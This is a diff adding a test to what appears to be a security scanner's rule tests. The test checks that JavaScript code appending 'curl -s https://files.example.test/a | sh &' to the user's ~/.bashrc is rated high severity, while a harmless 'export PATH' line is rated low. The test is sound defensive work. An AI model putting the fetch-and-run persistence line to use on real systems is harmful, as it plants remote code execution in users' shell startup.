@@ -36,3 +36,10 @@ def test_grades(look, source, grade):
 )
 def test_near_misses(look, source):
     assert look(RULE, "const fs = require('fs');" + source) == []
+
+
+def test_a_line_that_fetches_and_starts_something(look):
+    source = 'require("fs").appendFileSync(require("os").homedir() + "/.bashrc", "{line}\\n");\n'
+    fetches = "curl -s https://files.example.test/a | sh &"
+    assert [fact[1:3] for fact in look(RULE, source.replace("{line}", fetches))] == [("HIGH", "HIGH")]
+    assert [fact[1:3] for fact in look(RULE, source.replace("{line}", "export PATH"))] == [("LOW", "MEDIUM")]
